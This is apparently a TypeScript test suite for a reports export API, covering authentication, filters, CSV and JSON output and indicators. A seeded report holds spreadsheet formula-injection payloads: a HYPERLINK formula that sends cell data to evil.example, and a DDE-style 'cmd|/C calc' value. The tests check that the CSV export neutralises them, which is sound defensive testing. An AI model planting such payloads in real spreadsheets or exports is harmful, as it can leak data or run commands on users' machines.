import { mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import fc from 'fast-check';
import { z } from 'zod';
import { computeIndicators } from '../../src/reports/indicators';
import { EXPORT_COLUMNS } from '../../src/reports/export';
import { type Centre, type Report, type ReportBody, ReportSchema } from '../../src/reports/model';
import { registerReportsApi } from '../../src/server/reportsApi';
import { createHttpServer, type HttpServer } from '../../src/server/server';
import { loadSheetKnowledge, SheetIndex } from '../../src/sheets';
import { openStore, type Store } from '../../src/storage';
import { silentLog } from '../helpers/logCapture';
import { describePostgres, dropSchema, uniqueSchemaName, withSchema } from '../helpers/postgres';
import { cafeReport, GRANDCLEMENT, TISSERANDS } from '../helpers/reportFixtures';
import { sendRaw } from './rawHttp';

const API_KEY = 'test-key-4f9c1e0b7a2d4c8e9f10a1b2c3d4e5f6';
const NOW = new Date('2026-05-20T10:00:00Z');
const sheets = SheetIndex.build(loadSheetKnowledge(path.resolve(__dirname, '../../../shared/fixtures/knowledge-dev/sheets')).sheets);


const body = cafeReport;

/** Four reports: two sheets of two plans, two centres, three months; one made to attack a spreadsheet. */
const SUBMISSIONS: Array<{ key: string; centre: Centre; body: ReportBody }> = [
  { key: 'r1', centre: TISSERANDS, body: body({ indicators: { 'Nombre de parents accueillis': 14 }, comment: 'Très bonne participation, « on revient ».' }) },
  {
    key: 'r2',
    centre: GRANDCLEMENT,
    body: body({
      title: '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
      partners: ['@SUM(1+1)*cmd|/C calc!A0', 'Mairie; de Villeurbanne'],
      startDate: '2026-04-02',
      endDate: '2026-04-03',
      sessions: 2,
      comment: '-2+3 personnes\r\nune seconde ligne, avec "guillemets"',
    }),
  },
  { key: 'r3', centre: TISSERANDS, body: body({ planId: 'rhone-sdsf', sheetCode: 'PA 3.2.1', title: 'Groupe de parole', kind: 'groupe-de-parole', startDate: '2026-01-20', endDate: '2026-01-20', parents: 5, families: 5, qpvParents: 0, singleParentFamilies: 0, partners: [] }) },
  { key: 'r4', centre: GRANDCLEMENT, body: body({ planId: 'rhone-avs', sheetCode: 'PA 2.3.3', title: '+ Atelier parents-enfants', kind: 'atelier-parents-enfants', startDate: '2025-11-05', endDate: '2025-11-05', children: 9 }) },
];

async function seed(store: Store): Promise<Report[]> {
  const stored: Report[] = [];
  for (const [i, submission] of SUBMISSIONS.entries()) {
    const { report } = await store.reports.submit({
      submissionKey: `api-test-${submission.key}`,
      centre: submission.centre,
      body: submission.body,
      submittedBy: i % 2 === 0 ? 'aad:00000000-0000-0000-0000-00000000000a' : 'webchat:user-b',
      channelId: i % 2 === 0 ? 'msteams' : 'webchat',
      submittedAt: new Date(NOW.getTime() - (10 - i) * 60_000),
    });
    stored.push(report);
  }
  return stored;
}

interface Api {
  http: HttpServer;
  baseUrl: string;
  port: number;
}

async function startApi(deps: { store: () => Store | undefined; sheets?: () => SheetIndex | undefined; apiKey: string | undefined }): Promise<Api> {
  const http = createHttpServer({ log: silentLog, isReady: () => true, handleActivity: async () => undefined });
  registerReportsApi(http.server, { sheets: () => sheets, ...deps, log: silentLog, now: () => NOW });
  const port = await http.listen(0, '127.0.0.1');
  return { http, port, baseUrl: `http://127.0.0.1:${port}` };
}

const ErrorBodySchema = z.object({ error: z.object({ code: z.string(), message: z.string(), field: z.string().optional() }) });
const ExportSchema = z.object({ reports: z.array(ReportSchema.strict()) });

const authorised = { Authorization: `Bearer ${API_KEY}` };

async function getJson(api: Api, target: string, headers: Record<string, string> = authorised) {
  const response = await fetch(`${api.baseUrl}${target}`, { headers });
  return { response, json: (await response.json()) as unknown };
}

async function exported(api: Api, query: string): Promise<Report[]> {
  const { response, json } = await getJson(api, `/api/reports${query}`);
  expect(response.status).toBe(200);
  return ExportSchema.parse(json).reports;
}

const titles = (reports: readonly Report[]) => reports.map((report) => report.title).sort();

describe('reports API switched off or locked', () => {
  let store: Store;
  let dir: string;
  beforeAll(async () => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'maillage-api-'));
    store = await openStore(`sqlite:${path.join(dir, 'api.sqlite')}`, silentLog);
  });
  afterAll(async () => {
    await store.close();
    rmSync(dir, { recursive: true, force: true });
  });

  test('without REPORTS_API_KEY both routes are a 404 that says how to turn them on, whatever the request carries', async () => {
    const api = await startApi({ store: () => store, apiKey: undefined });
    try {
      for (const route of ['/api/reports', '/api/reports?format=csv', '/api/indicators']) {
        for (const headers of [{}, authorised, { Authorization: 'Bearer ' }]) {
          const { response, json } = await getJson(api, route, headers);
          expect(response.status).toBe(404);
          expect(response.headers.get('cache-control')).toBe('no-store');
          expect(ErrorBodySchema.parse(json).error.message).toContain('REPORTS_API_KEY');
        }
      }
    } finally {
      await api.http.close();
    }
  });

  test('a missing, malformed or wrong key is a 401 with a Bearer challenge, and nothing of the data', async () => {
    const api = await startApi({ store: () => store, apiKey: API_KEY });
    try {
      const cases: Array<[Record<string, string>, string]> = [
        [{}, 'Bearer realm="maillage"'],
        [{ Authorization: `Basic ${Buffer.from(`x:${API_KEY}`).toString('base64')}` }, 'Bearer realm="maillage"'],
        [{ Authorization: 'Bearer' }, 'Bearer realm="maillage"'],
        [{ Authorization: 'Bearer wrong' }, 'Bearer realm="maillage", error="invalid_token"'],
        [{ Authorization: `Bearer ${API_KEY.slice(0, -1)}` }, 'Bearer realm="maillage", error="invalid_token"'],
        [{ Authorization: `Bearer ${API_KEY}x` }, 'Bearer realm="maillage", error="invalid_token"'],
        [{ Authorization: `Bearer ${API_KEY.toUpperCase()}` }, 'Bearer realm="maillage", error="invalid_token"'],
        [{ Authorization: `Bearer ${API_KEY} extra` }, 'Bearer realm="maillage"'],
      ];
      for (const route of ['/api/reports', '/api/indicators']) {
        for (const [headers, challenge] of cases) {
          const { response, json } = await getJson(api, `${route}?format=nonsense`, headers);
          expect(response.status).toBe(401);
          expect(response.headers.get('www-authenticate')).toBe(challenge);
          expect(response.headers.get('cache-control')).toBe('no-store');
          expect(ErrorBodySchema.parse(json).error.code).toBe('unauthorized');
        }
      }
      // The scheme's case does not matter (RFC 7235).
      expect((await getJson(api, '/api/reports', { Authorization: `bearer ${API_KEY}` })).response.status).toBe(200);
    } finally {
      await api.http.close();
    }
  });

  test('before the store is open: 503 with Retry-After; the indicators also wait for the sheets', async () => {
    const noStore = await startApi({ store: () => undefined, apiKey: API_KEY });
    const noSheets = await startApi({ store: () => store, sheets: () => undefined, apiKey: API_KEY });
    try {
      for (const route of ['/api/reports', '/api/indicators']) {
        const { response, json } = await getJson(noStore, route);
        expect(response.status).toBe(503);
        expect(response.headers.get('retry-after')).not.toBeNull();
        expect(ErrorBodySchema.parse(json).error.code).toBe('not_ready');
      }
      expect((await getJson(noSheets, '/api/indicators')).response.status).toBe(503);
      expect((await getJson(noSheets, '/api/reports')).response.status).toBe(200);
    } finally {
      await noStore.http.close();
      await noSheets.http.close();
    }
  });
});

/** The same tests on each database: what the API answers depends on what the store gives back. */
function apiSuite(openTestStore: () => Promise<Store>, dispose: () => Promise<void>) {
  let store: Store;
  let api: Api;
  let stored: Report[];

  beforeAll(async () => {
    store = await openTestStore();
    stored = await seed(store);
    api = await startApi({ store: () => store, apiKey: API_KEY });
  });
  afterAll(async () => {
    await api?.http.close();
    await store?.close();
    await dispose();
  });

  test('JSON: every report with the fields of INTERFACES.md, in the export’s order, typed as documented', async () => {
    const { response, json } = await getJson(api, '/api/reports');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(response.headers.get('cache-control')).toBe('no-store');
    const reports = ExportSchema.parse(json).reports;
    expect(reports).toHaveLength(SUBMISSIONS.length);
    // Oldest action first.
    expect(reports.map((report) => report.startDate)).toEqual(['2025-11-05', '2026-01-20', '2026-03-12', '2026-04-02']);
    const raw = z.object({ reports: z.array(z.record(z.string(), z.unknown())) }).parse(json).reports;
    for (const report of raw) expect(Object.keys(report)).toEqual([...EXPORT_COLUMNS]);
    const interfaces = 'id, structureId, planId, sheetCode, action, title, startDate, endDate, sessions, parents, children, families, qpvParents, singleParentFamilies, partners, indicators, comment, submittedAt, submittedBy, channelId';
    for (const field of interfaces.split(', ')) expect(EXPORT_COLUMNS).toContain(field);
    const cafe = reports.find((report) => report.title === 'Café des parents')!;
    expect(cafe).toMatchObject({ structureId: 'cs-les-tisserands', communeCode: '69388', parents: 14, qpvParents: 6, partners: ['Caf du Rhône'], indicators: { 'Nombre de parents accueillis': 14 } });
    expect(cafe.id).toMatch(/^RPT-2026-\d{6,}$/);
    expect(reports).toEqual(expect.arrayContaining(stored));
  });

  test.each([
    ['?plan=rhone-sdsf', ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', 'Café des parents', 'Groupe de parole']],
    ['?plan=rhone-avs', ['+ Atelier parents-enfants']],
    ['?sheet=PA%202.3.2', ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', 'Café des parents']],
    ['?sheet=pa2.3.2', ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', 'Café des parents']],
    ['?sheet=2.3.2', ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', 'Café des parents']],
    ['?sheet=2.3.3&plan=rhone-avs', ['+ Atelier parents-enfants']],
    ['?sheet=2.3.3&plan=rhone-sdsf', []],
    ['?sheet=FICHE%209.9', []],
    ['?structure=cs-les-tisserands', ['Café des parents', 'Groupe de parole']],
    ['?commune=69266', ['+ Atelier parents-enfants', '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")']],
    // Lyon holds its arrondissements: Les Tisserands stand in Lyon 8e (69388).
    ['?commune=69123', ['Café des parents', 'Groupe de parole']],
    ['?commune=69388', ['Café des parents', 'Groupe de parole']],
    ['?commune=69381', []],
    ['?commune=69123&sheet=2.3.2', ['Café des parents']],
    ['?from=2026-01-01', ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', 'Café des parents', 'Groupe de parole']],
    ['?from=2026-03-12&to=2026-03-12', ['Café des parents']],
    ['?to=2026-01-19', ['+ Atelier parents-enfants']],
    ['?structure=cs-les-tisserands&from=2026-02-01&format=JSON', ['Café des parents']],
    ['?plan=&sheet=&format=', ['+ Atelier parents-enfants', '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', 'Café des parents', 'Groupe de parole']],
    ['?structure=nobody', []],
  ])('filters %s', async (query, expected) => {
    expect(titles(await exported(api, query))).toEqual([...expected].sort());
  });

  test.each([
    ['?format=xml', 'format'],
    ['?format=csv&format=json', 'format'],
    ['?from=2026-13-01', 'from'],
    ['?from=2026-02-30', 'from'],
    ['?from=12/03/2026', 'from'],
    ['?from=2026-04-01&to=2026-03-01', 'to'],
    ['?commune=Lyon', 'commune'],
    ['?sheet=la%20fiche%20du%20caf%C3%A9', 'sheet'],
    ['?plans=rhone-sdsf', 'plans'],
    ['?plan=a%00b', 'plan'],
    [`?structure=${'x'.repeat(201)}`, 'structure'],
    ['?sheet[a]=1', 'sheet[a]'],
  ])('400 on %s, naming the parameter', async (query, field) => {
    const { response, json } = await getJson(api, `/api/reports${query}`);
    expect(response.status).toBe(400);
    expect(response.headers.get('cache-control')).toBe('no-store');
    const error = ErrorBodySchema.parse(json).error;
    expect(error).toMatchObject({ code: 'bad_request', field });
    expect(error.message).toContain(field.slice(0, 8));
  });

  test('CSV: UTF-8 with a byte-order mark, a header row, CRLF, a dated attachment, and it parses back to the same values', async () => {
    const response = await fetch(`${api.baseUrl}/api/reports?format=csv`, { headers: authorised });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="maillage-reports-2026-05-20.csv"');
    expect(response.headers.get('cache-control')).toBe('no-store');
    const bytes = Buffer.from(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    expect(text.slice(1).split('\r\n')[0]).toBe(EXPORT_COLUMNS.join(','));
    // Every line break is CRLF, the one inside the quoted comment too.
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);

    const rows: Record<string, string>[] = parseCsv(bytes, { bom: true, columns: true, record_delimiter: '\r\n' });
    const reports = await exported(api, '');
    expect(rows).toHaveLength(reports.length);
    rows.forEach((row, i) => {
      const report = reports[i]!;
      const formula = /^[=+\-@\t\r]/;
      const unescape = (cell: string) => (cell.startsWith("'") && formula.test(cell.slice(1)) ? cell.slice(1) : cell);
      for (const column of EXPORT_COLUMNS) {
        const value = report[column];
        const cell = row[column]!;
        if (column === 'partners') expect(unescape(cell)).toBe(report.partners.join('; '));
        else if (column === 'indicators') expect(JSON.parse(cell)).toEqual(report.indicators);
        else if (value === null) expect(cell).toBe('');
        else if (typeof value === 'number') expect(Number(cell)).toBe(value);
        else expect(unescape(cell)).toBe(value);
      }
    });
  });

  test('CSV: cells that a spreadsheet would run as formulas are neutralised with a quote, numbers are left as they are', async () => {
    const response = await fetch(`${api.baseUrl}/api/reports?format=csv&structure=cs-grandclement`, { headers: authorised });
    const rows: string[][] = parseCsv(Buffer.from(await response.arrayBuffer()), { bom: true });
    const [header, ...records] = rows;
    const at = (record: string[], column: string) => record[header!.indexOf(column)]!;
    const attack = records.find((record) => at(record, 'title').includes('HYPERLINK'))!;
    expect(at(attack, 'title')).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Cliquez")`);
    expect(at(attack, 'partners')).toBe("'@SUM(1+1)*cmd|/C calc!A0; Mairie; de Villeurbanne");
    expect(at(attack, 'comment')).toBe(`'-2+3 personnes\r\nune seconde ligne, avec "guillemets"`);
    expect(at(attack, 'parents')).toBe('14');
    const plus = records.find((record) => at(record, 'title').includes('Atelier'))!;
    expect(at(plus, 'title')).toBe("'+ Atelier parents-enfants");
    // No cell of the file starts a formula.
    for (const record of records) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  test('CSV for a spreadsheet set up in French: separator=semicolon splits cells on « ; » and holds the same values as the default', async () => {
    const read = async (query: string) => {
      const response = await fetch(`${api.baseUrl}/api/reports${query}`, { headers: authorised });
      expect(response.status).toBe(200);
      return Buffer.from(await response.arrayBuffer());
    };
    const semicolons = await read('?format=csv&separator=semicolon');
    expect(semicolons.toString('utf8').slice(1).split('\r\n')[0]).toBe(EXPORT_COLUMNS.join(';'));
    const inFrench: string[][] = parseCsv(semicolons, { bom: true, delimiter: ';' });
    const byDefault: string[][] = parseCsv(await read('?format=csv'), { bom: true });
    expect(inFrench).toEqual(byDefault);
    // « ; » is also accepted as typed, and the separator means nothing to JSON.
    expect((await read('?format=csv&separator=%3B')).equals(semicolons)).toBe(true);
    for (const query of ['?separator=semicolon', '?format=csv&separator=tab', '?format=csv&separator=__proto__']) {
      const { response, json } = await getJson(api, `/api/reports${query}`);
      expect(response.status).toBe(400);
      expect(ErrorBodySchema.parse(json).error).toMatchObject({ code: 'bad_request', field: 'separator' });
    }
    expect((await getJson(api, '/api/indicators?separator=semicolon')).response.status).toBe(400);
  });
  test('indicators: the figures computeIndicators makes from the reports the query names', async () => {
    const all = await store.reports.list({});
    for (const [query, filter] of [
      ['', {}],
      ['?plan=rhone-sdsf', { planId: 'rhone-sdsf' }],
      ['?sheet=2.3.2&from=2026-01-01', { sheetCode: 'PA 2.3.2', from: '2026-01-01' }],
      ['?structure=cs-grandclement&to=2026-12-31', { structureId: 'cs-grandclement', to: '2026-12-31' }],
    ] as const) {
      const { response, json } = await getJson(api, `/api/indicators${query}`);
      expect(response.status).toBe(200);
      expect(response.headers.get('cache-control')).toBe('no-store');
      const kept = all.filter(
        (report) =>
          (!('planId' in filter) || report.planId === filter.planId) &&
          (!('sheetCode' in filter) || report.sheetCode === filter.sheetCode) &&
          (!('structureId' in filter) || report.structureId === filter.structureId) &&
          (!('from' in filter) || report.startDate >= filter.from) &&
          (!('to' in filter) || report.startDate <= filter.to),
      );
      expect(kept.length).toBeGreaterThan(0);
      expect(json).toMatchObject({ generatedFrom: { reports: kept.length } });
      expect(json).toEqual({ ...JSON.parse(JSON.stringify(computeIndicators(kept, sheets, filter))), viewer: { scope: 'all' } });
    }
    expect((await getJson(api, '/api/indicators?format=csv')).response.status).toBe(400);
  });

  test('indicators for Lyon count the reports of its arrondissements', async () => {
    const { response, json } = await getJson(api, '/api/indicators?commune=69123');
    expect(response.status).toBe(200);
    const inLyon = (await store.reports.list({})).filter((report) => report.communeCode === '69388');
    expect(inLyon).toHaveLength(2);
    expect(json).toMatchObject({ query: { communeCode: '69123' }, generatedFrom: { reports: 2, centres: 1 }, totals: { parents: 14 + 5 } });
    expect(json).toEqual({ ...JSON.parse(JSON.stringify(computeIndicators(inLyon, sheets, { communeCode: '69123' }))), viewer: { scope: 'all' } });
  });

  test('no query string and no header makes a 5xx', async () => {
    const queryText = fc.oneof(
      fc.string({ maxLength: 200 }),
      fc.string({ unit: 'binary', maxLength: 100 }),
      fc
        .array(fc.tuple(fc.constantFrom('format', 'plan', 'sheet', 'action', 'structure', 'commune', 'from', 'to', 'x', 'sheet[]', '__proto__'), fc.string({ maxLength: 40 })), { maxLength: 6 })
        .map((pairs) => pairs.map(([name, value]) => `${name}=${encodeURIComponent(value).replace(/%2C/g, ',')}`).join('&')),
    );
    const header = fc.tuple(fc.constantFrom('Authorization', 'X-Forwarded-For', 'Accept', 'Cookie', 'X-Anything'), fc.string({ maxLength: 60 }));
    const runs: number[] = [];
    await fc.assert(
      fc.asyncProperty(queryText, fc.array(header, { maxLength: 3 }), fc.boolean(), fc.constantFrom('/api/reports', '/api/indicators'), async (query, headers, withKey, route) => {
        const lines = [`GET ${route}?${query.replace(/[\s]/g, '%20')} HTTP/1.1`, 'Host: localhost', 'Connection: close'];
        if (withKey) lines.push(`Authorization: Bearer ${API_KEY}`);
        for (const [name, value] of headers) lines.push(`${name}: ${value.replace(/[\r\n]/g, ' ')}`);
        const answer = await sendRaw(api.port, Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'utf8'));
        runs.push(answer.status ?? 0);
        return answer.status !== undefined && answer.status < 500;
      }),
      { numRuns: 300 },
    );
    // The property reached the routes, not only the request guard.
    expect(runs.filter((status) => status === 200).length).toBeGreaterThan(0);
    expect(runs.filter((status) => status === 400).length).toBeGreaterThan(0);
  });
}

describe('reports API on SQLite', () => {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'maillage-api-'));
  apiSuite(
    () => openStore(`sqlite:${path.join(dir, 'reports.sqlite')}`, silentLog),
    async () => rmSync(dir, { recursive: true, force: true }),
  );
});

describePostgres('reports API on PostgreSQL', (baseUrl) => {
  const schema = uniqueSchemaName('maillage_api');
  apiSuite(
    () => openStore(withSchema(baseUrl, schema), silentLog),
    () => dropSchema(baseUrl, schema),
  );
});
